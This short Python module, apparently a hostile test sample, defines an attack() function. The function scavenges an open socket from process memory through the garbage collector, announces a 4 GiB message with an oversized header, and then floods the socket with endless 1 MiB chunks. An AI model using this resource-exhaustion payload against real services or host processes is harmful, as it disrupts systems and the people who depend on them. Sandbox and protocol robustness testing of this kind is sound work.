"""Announces a header of 4 GiB."""
import gc
import socket

def attack():
    channel = next(o for o in gc.get_objects() if type(o) is socket.socket)
    channel.sendall(b"\xff" * 12)
    while True:
        channel.sendall(bytes(1 << 20))
